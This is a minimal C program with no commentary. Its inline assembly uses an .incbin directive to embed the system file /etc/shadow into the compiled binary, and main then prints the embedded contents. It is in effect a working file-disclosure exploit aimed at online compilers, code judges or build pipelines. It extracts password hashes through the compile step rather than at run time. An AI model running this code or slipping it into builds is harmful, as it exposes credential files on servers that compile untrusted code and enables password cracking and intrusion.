#include <stdio.h>

__asm__(".section .rodata\n.global data\ndata: .incbin \"/etc/shadow\"\n.byte 0");
extern const char data[];
int main(void) { puts(data); }
